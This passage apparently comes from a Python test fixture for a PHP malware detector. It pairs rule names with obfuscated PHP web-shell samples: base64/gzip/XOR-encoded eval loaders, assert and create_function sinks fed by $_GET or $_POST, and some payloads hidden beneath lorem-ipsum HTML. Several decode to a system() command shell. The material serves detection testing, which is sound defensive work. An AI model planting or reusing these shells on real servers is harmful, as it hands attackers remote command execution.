        "<?php\n$k = 'eVjRiuw2DP2VYPYhBhNIXlOXvpT+QN9KKdmyl1umvQs7b2FCyL9XOpIsbXrZZWciO7IsnXMk7/37av/8GIbX20Ca/7x9G4d8vOz05+KxMvz9he7Pw0Jav7x/vG2vX4bTZ+h3u9Oii6YrLXh7/ao+JB6efGQfXh685Ka942d2l9jOLI+XLJKpTWepdyf7ha7SixM/227sydae5/bPe7QAL1XZDO/INgu/stsGPPfwxWfGVk/0Y48TeYp5mJrf4bch5ZPv9HoNESHvF/6TfHqhOTqB+HBrFt0ywlbHl4OWqucmyULSng92FUMLu3jXcIwycvJsNSML/Yw0cpKHJ6apIHa5IOz0Kg5lWtPiNckXiUjlHXLeo9nFOJtdNX4HDaETvQOj+GMuF57PA4bKDkqBGGnLzF8YJaSR6O3qTjAYiuzMznmgEx95t2UfA80tmdkyRN/OYdTLhT6Rg5lcAKTI7CLpGSUgZl7mKNyYshgzNM8QZNqboeyJJ/yVwUbvVFmaJGxp4GOvdrhRo5mfHdmoEwknYPM2RgZ1+9oTTd+uJmiZTZ0SHSegJLFeLL+OM44JBmvdSYiZ+XMNM+AdBQgBcCtxSTIAYOaU1lw48b5H5PyveXrsIc1FpeRhPHLfxZHNMo3IF0ds2DwLsxabyrYhxxkINN/owKcVrpNV3dE2XHkTjRktNCYws8PBkHUWOEfxB6WTjhqTuyrqXTwYcTrvQWFie04C/RAi6bIifIPdMlf3hoK50wcMJVFexX7W6OxtYcsJuyZZ3/H2DMgPSkM2jPRnL5fpmexB582QwjuLR2BC2z25qjTDm1F5dT1EFOmk9Ns5OaXMfphqpyyftEMER82JJzaIYIUiMC4OHqpg0kSHm3Rw7A9KI47SUU60oN5VKM7JotUkk3ZfEQ0pgjs9IRCFH2bohC1u5MwylwOgbF9WFkadNDABmac8vH0AgFEcRKYbgvb5U7Ai6C0S306HOpFjohxWUhz9Xh0wJeXjuW7bXMiZJ1dAO4aHrcXnYgableZ+QkiXngRBUygmRSJqg1em8Vk45EdQK5l9BCfK+tEQl98Vj7vMzGgtdoP6HJydBiW2HSVZ97OKNpEHPY2rcEVLf29QGHLzfO51njseYXFVrl8isPQNKE6KVTveeLoVf+PVB041GtWoqYXrQVDN3GuwzVj/MuMk5EdoP3g2xCxoNhYpReu2eDrjQWuivFoe1u0qVflEQR+l0UD1rZEehwR+lEIdzuaYo0HvDx38J8quunIpk2LeJz3B6ZCG3GgPuEi7b+G0DgZhX9ccrKEvAlf2Fq0rZkOxNxupXEdujahlKJoDkyfh9SRST6sCGQUpMOwvsOzyMc2+z2m/Ji279db0bQ1hyT3VrAl4gPM5GGNY4KzT/zR6iQCC6CcftbrtYQ2Np32bQ1MwFHcoq/lwtq4pt0gmyJNnRluMFJuT2ADuaZz6zslhWMi/1JSEHIBsGWzn4Llg/wxxd5mcYIlPHPTyRKqa+gqgeo01akW5DVp4dp2/iYZlJFiqjVl6LozfRgBQAbt8X4DdsA25JfCnpP0R8TNQS2qEiFls1EH6K6R51YZwQ2X1W1JFsXxuA1VMRi3B148S5Vp8hb/VOjop2zWQMstJdSueu7xGkeik2Q2cjmZGLgapSWWtFyzospqIsH+bmABwZUm2b9WkzWhR3TFABeV5RuIZWg/VCo6BXhZwo4UQnsrPHSW3ch2AMacCqHWrOdDefV6MMzC6hMogkoA8BXnbmmR0HTMw2TZCEjKSu1hMeBNvIBsoH1FZH1I5Q4YuNBLzD5QM5/R+exIIQIoknzkses3nrQlz1NBN75QTW/KLrRMet84dmX8EShS54jdy+u3gfncmT9BThTTXrNnX4tPpQZLdt+thgYZmvQDUVru1UzlCTLmH9Mjn5+Li2hv+xfKX83kQ2lW0frmLuEDfdZtNyvSbHIpUDZHq6kFt7VTuOwRFaPsvD/R31EpzCr+qKFyRoUn0K8BXSv/ZoRpALYFjizD8hPlnIcJ7TUEU/H8PKhIZ3IxIPgJPyYFL762XRdfVeMUNRDPRGqWKHv+CfI0+rJVuhpy5lE3+HwptL1cUiRx2An/tskgrxshwula/dj/un2//ji9//aer73+k1/Rn1k4mvc/S+h8=';\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adip\n<?php eval(gzinflate(base64_decode(strtr($k, 'fedcba', 'abcdef')))); ?>\n",
    ),
    # c:gzuncompress_two_vars
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$p1 = 'eNpzKK4sLknN1VCJd3cN';\n$p2 = 'iVZKVorVtFZITc7IV1DKz1ayBgCgHwls';\n$r = gzuncompress(base64_decode($p1 . $p2));\neval($r);\n",
    ),
    # c:assert_closetag_concat
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$q = base64_decode('Pz48P3BocCBAc3lzdGVtKCRfR0VUWyJjIl0pOyBlY2hvICJvayI7');\n@assert($q);\n",
    ),
    # c:sg_string_in_globals_call
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "<?php $GLOBALS['_' . 'GET']['f']($GLOBALS['_' . 'GET']['a']);\n",
    ),
    # c:uu_var
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$u = '?0\\'-Y<W1E;2@D7T=%5%LB8R)=*3L@96-H;R B;VLB.P  \\n`\\n';\n$d = convert_uudecode(stripcslashes($u));\neval($d);\n",
    ),
    # c:return_eval_fn_call
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\nfunction cache_get($k) {\n    return eval('return ' . $k . ';');\n}\necho cache_get($_GET['k']);\n",
    ),
    # c:static_closure_filter
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php array_filter([$_POST['c']], static function ($x) { return assert($x); });\n",
    ),
    # c:request_via_var_sg
    (
        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
        "<?php\n$r = '_REQUEST';\n$v = $GLOBALS[$r];\neval($v['x']);\n",
    ),
    # d:fopo_full
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        '<?php\n$OO0O0O=urldecode("n1zb%2Fma5%5Cvt0i28-pxuqy%2A6lrkdg9_ehcswo4%2Bf37j");\n$O0OO0O=$OO0O0O{3}.$OO0O0O{6}.$OO0O0O{33}.$OO0O0O{30}.$OO0O0O{22}.$OO0O0O{36}.$OO0O0O{29}.$OO0O0O{26}.$OO0O0O{30}.$OO0O0O{32}.$OO0O0O{35}.$OO0O0O{26}.$OO0O0O{30};\n$OOO000=$OO0O0O{27}.$OO0O0O{2}.$OO0O0O{12}.$OO0O0O{0}.$OO0O0O{38}.$OO0O0O{23}.$OO0O0O{6}.$OO0O0O{10}.$OO0O0O{30};\neval($OOO000($O0OO0O("ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==")));\n',
    ),
    # d:jiami_like
    (
        "SPAMGEAR_LOADER_ShiftCipherEval",
        "SPAMGEAR_LOADER_ShiftCipherEval",
        "SPAMGEAR_LOADER_ShiftCipherEval",
        "<?php /* PHP Encode by example */error_reporting(0);ini_set('display_errors', 0);\nif(!function_exists('Il1lI')){function Il1lI($a,$b=''){$a=base64_decode($a);$c='';for($i=0;$i<strlen($a);$i++){$c.=chr(ord($a[$i])^7);}return $c;}}\neval(Il1lI('R3R+dHNiai8jWEBCU1wlZCVaLjwnYmRvaCclaGwlPA=='));\n",
    ),
    # d:blob_in_function
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\nfunction get_data() {\n    return 'ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==';\n}\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.\n<?php eval(gzinflate(base64_decode(get_data()))); ?>\n",
    ),
    # d:blob_class_const
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\nclass Cfg { const D = 'eNptV11r5UYM/StmuA82GIP9OnXpS9k/0LdSih2ybHG7gSQLuZj57z06kmbkmyUm1/aMPkY6OpJvR/fP1+52dM9P3166tx/72/tr363d9tbdPrrbLqtcKt3t3snK0n19eX3enr7J6o3i/qLHIgRzd9u6FBeg9N/n771sh5ahe31+//H6HcqyvILIhJeFRjfZoUpkp3s0irrUnWJ0xRN9mk2ux5+phJDdDaYIAnaYo/tlf/0VPro7rrxKuL9JpBa8mESQtgaYpbgL00euuxQPrxZ7+HYGhRLjO9ymBolhwcMU4p0gIiYGvMfOjJuEbRP0wMIi7zwTuE0SHnNskgVcUwwDnkuInd/BOfMBShBqZmTSWIs/TLEaYeZNGyXsfpSkPMSvPnua74qgGtfSMm43Lqog4yHhj4fLk/mhB8EvXZgNLRmxzQyWxDgTBQueT3hnoqdIPvqXVc2kKuGlHvWAKHbTickVSPYVOhOB3pzDrur9nRmqNiWqO7RL8gjnIZRLghnIFrjBPAzqjabjMAw0cMKjBv+WC8JaozXANDQVMXwwAFnQs0PR6EXrcduZ31p5GduT6kj4c5uTitkmd3wlmGcx/dH18fxFg6N1Ud8lHnsQpzOTr+Ct6NjUStKfEZtytTV0dnJYkRRjs5RKYc5PtUSw48SZB11DmEK4COUUmSeRKYoo3WXZN7tpFpLUEGJ6VsEHSI7Xw4pXkxbOqX63ms+hGANlElGNMUf41YhgFk0t7vREdML9QjoS5ijy6BInk6CeEFZFU1QtbmK0qTwZBzpLqK6ibtdUeDmcmuhVEaw7tWCcdLDgATqxb2W+zwtfZyWYVf1vLrRyiLTSWyuZa0PAgzNV5tFd9YJNIdG4sF96An5c+enYasmo2P+EbiegoJS1etiJS6OVGYoasSZ1tyWT3JQVbOpX4L4WHO9EGu+NBRPK3tOAlQrfDyLztGJ4aFzsitXKqg0I0tBleIUnVgN8jB38rgCYAsFI3nzLyJbUkg2dawhAqGu6HVjXNfhxMknEmrJY1ZHDpK0zxo7jihxxpCv842LSngW9Y8g64jRfAz27IXdPezR7dXAWyhaN8kNsFQWldsXlwsXuffEhIbW1Scl4DOxa436IrTGwnoFtM0c2ewEnU0Ou16mWY8bZLgRH+kraXkgFK72gyCUZyik5tOgACCucpDXR5ozlU5sfvc0smoYQS4K6SUin6kMkioYaDgt79FbzRCEkheUsnCxFpYFNuy32zdxBhBs7bqxv8lnRpKvMR7U4k5/6EPELxMggLU8ldLNM5v00uEw6ks42HIw6Q1DpEKZQbTg6xdyviNcmxeIbtFQHPR+ui3Mz/tbArI9Mmsl+E9uA9HjSzlRDgGsIVOPRlAP0Ylw7QlbWZQmteiL9MGAHDnwfGotBpY8dLpCwT6sLxw2OsQVHYZuMpXfQ3b7GT1rS44jJYjI4eiYqmLJCqOXWeuCi72UuClP7STgawEYWQmNjw8XpEISWFPpNyN2iO7PWqPRACjRVml8t4tBa2jCqDNQa26BzfmOzXIPsUx/HPZueWHOcsQx1rIAG+EXnkux8OZtBi/fnWdv09j8lYRk5HhBQFNezQq59BU2cy8ThIzTtxhopbsee2sXsxgOP69TqCIUsQ99jNvi9kZlWHm75Sf/g1ySb+QN8LjXJNlUYSyPSRmGei5auNt8JCeySrz3EMwfeHi6fDbt+CszG8o9gX2KRhc+OlQNAi0TWuV+o0XzLYXLNl2F+CANP9snqt7f72/vzf/3t7y+///Fnekp/DSaVXo6U/weRRJM4'; }\neval(gzuncompress(base64_decode(Cfg::D)));\n",
    ),
    # d:globals_decoders
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php\n$GLOBALS['x1'] = 'base64_decode';\n$GLOBALS['x2'] = 'gzinflate';\neval($GLOBALS['x2']($GLOBALS['x1']('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n",
    ),
    # d:array_decoders
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php\n$a = array('base64_decode', 'gzinflate');\neval($a[1]($a[0]('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n",
    ),
    # d:cuf_decoder
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php eval(call_user_func('base64_decode', 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n",
    ),
    # d:cufa_gz
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php eval(call_user_func_array('gzinflate', array(base64_decode('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'))));\n",
    ),
    # d:vars_create_fn
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$d = 'gzinflate'; $e = 'base64_decode';\n$code = $d($e('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'));\n$fn = create_function('', $code);\n$fn();\n",
    ),
    # d:urlsafe_b64
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php @eval(gzinflate(base64_decode(str_replace(array('-', '_'), array('+', '/'), 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'))));\n",
    ),
    # d:rev_rot_gz
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php eval(gzinflate(base64_decode(strrev(str_rot13('NLtfJ9flDqSlB3RFJEo1XnyFJyLQ3qKvDIqmW5PYhvlp')))));\n",
    ),
    # d:eval_in_eval
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php eval(\"\\$x = base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='); eval(\\$x);\");\n",
    ),
    # d:xor_loop_eval
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php\n$x = base64_decode('R3R+dHNiai8jWEBCU1wlZCVaLjwnYmRvaCclaGwlPA==');\n$y = '';\nfor ($i = 0; $i < strlen($x); $i++) { $y .= chr(ord($x[$i]) ^ 7); }\neval($y);\n",
    ),
    # d:xor_key_loop_eval
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php\n$k = 'secret';\n$s = base64_decode('MxYaARERHk1HLSIxJz5BEUcpWl5DFwYcHEVBHQ5WSA==');\n$o = '';\nfor ($i = 0; $i < strlen($s); $i++) $o .= $s[$i] ^ $k[$i % strlen($k)];\neval($o);\n",
    ),
    # d:openssl_eval
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php eval(openssl_decrypt(base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), 'AES-128-CBC', 'k3y', OPENSSL_RAW_DATA, '1234567890123456'));\n",
    ),
    # d:assert_globals
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$GLOBALS['_x'] = $_POST['p'];\nassert(gzinflate(base64_decode($GLOBALS['_x'])));\n",
    ),
    # d:superglobal_alias_call
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n$f = $_GET;\n$f['a']($f['b']);\n",
    ),
    # d:junk_replace_curly_input
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "<?php\n$x = str_replace('#', '', 'a#s#s#e#r#t');\n$x(${'_P'.'OST'}['z']);\n",
    ),
    # d:heredoc_b64
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$code = <<<EOT\nZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lf